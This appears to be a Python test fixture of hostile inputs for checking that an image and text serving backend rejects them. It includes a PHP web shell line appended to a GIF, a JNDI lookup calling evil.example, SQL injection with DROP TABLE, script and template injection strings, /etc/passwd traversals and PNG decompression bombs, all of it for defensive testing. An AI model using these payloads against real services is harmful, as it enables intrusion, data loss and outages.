"""Input that nobody sends in good faith, by name."""

import io
import zipfile
import zlib
from struct import pack

from PIL import Image

from tests.serving.local_backend import picture


def _encoded(kind: str, size=(8, 6), mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind)
    return out.getvalue()


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("index.html", "hello")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, pixels: bytes = b"") -> bytes:
    header = _chunk(b"IHDR", pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


PICTURES = {
    "empty": b"",
    "one byte": b"\x00",
    "text": b"not a picture at all",
    "html": b"<html><script>alert(1)</script></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "xml bomb": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbb">]><a>&b;</a>',
    "pdf": b"%PDF-1.7\n1 0 obj",
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9",
    "zip": _archive(),
    "program": b"MZ\x90\x00" + b"\x00" * 60,
    "bmp": _encoded("BMP"),
    "tiff": _encoded("TIFF"),
    "ico": _encoded("ICO", (16, 16)),
    "half a png": picture("PNG")[:50],
    "half a jpeg": picture("JPEG", (64, 64))[:400],
    "half a webp": picture("WEBP", (64, 64))[:60],
    "half a gif": picture("GIF", (64, 64))[:40],
    "png signature": picture("PNG")[:8],
    "jpeg signature": b"\xff\xd8\xff\xe0",
    "broken pixels": _png(64, 64, b"not compressed"),
    "no pixels": _png(64, 64, zlib.compress(b"")),
    "no size": _png(0, 0, zlib.compress(b"")),
    "announced bomb": _png(60_000, 60_000, zlib.compress(b"\x00" * 100)),
    "real bomb": _png(7000, 7000, zlib.compress(bytes(7000 * (1 + 3 * 7000)), 9)),
    "strip": _encoded("PNG", (30_000, 1), "L"),
    "jpeg with a page": picture("JPEG") + b"<html><script>alert(1)</script></html>",
    "png with an archive": picture("PNG") + _archive(),
    "gif with php": picture("GIF") + b"<?php system($_GET['c']); ?>",
    "webp with a document": picture("WEBP") + b"%PDF-1.4\n",
}
INJECTIONS = {
    "sql": "' OR 1=1 --",
    "sql drop": "x'; DROP TABLE posts; --",
    "filter": '" or id != "',
    "filter list": 'x"] or author in ["person1',
    "filter like": 'id like "%"',
    "null": "a\x00b",
    "line": "a\nb",
    "space": "a b",
    "markup": "<script>alert(1)</script>",
    "template": "{{7*7}}${7*7}",
    "lookup": "${jndi:ldap://evil.example/a}",
    "windows": "..\\..\\secrets",
    "letter": "åsa",
    "right to left": "a\u202eb",
    "long": "x" * 129,
    "very long": "x" * 4000,
}
TRAVERSALS = ("../../etc/passwd", "..", "./a", "a/../b", "/etc/passwd", "a//b", "a/", ".hidden")
BODIES = {
    "nothing": b"",
    "blank": b"  ",
    "half": b'{"texts": ["a"',
    "trailing": b"{} {}",
    "single quotes": b"{'a': 1}",
    "comment": b"{} // x",
    "bytes": bytes(range(128, 256)),
    "invalid utf-8": b'{"texts": ["\xff\xfe"]}',
    "overlong utf-8": b'{"texts": ["\xc0\xaf"]}',
    "utf-16": '{"texts": ["a"]}'.encode("utf-16"),
    "half a surrogate": b'{"texts": ["\\ud800"], "query": [{"text": "\\ud800"}]}',
    "nan": b'{"weight": NaN}',
    "infinite": b'{"weight": 1e999}',
    "deep list": b"[" * 100_000,
    "deep object": b'{"a":' * 50_000,
    "list": b"[]",
    "number": b"1",
    "null": b"null",
    "text": b'"x"',
    "empty": b"{}",
    "unknown": b'{"is_admin": true}',
    "prototype": b'{"__proto__": {"admin": true}}',
    "long name": b'{"' + b"n" * 5000 + b'": 1}',
    "long number": b'{"limit": ' + b"9" * 5000 + b"}",
}
TEXTS = {
    "empty": "",
    "null character": "a\x00b",
    "8 KiB and one": "x" * 8193,
    "8 KiB of letters, more in bytes": "å" * 8000,
    "a megabyte": "x" * 1_000_000,
    "number": 7,
    "nothing": None,
    "truth": True,
    "list": ["a"],
    "object": {"text": "a"},
}
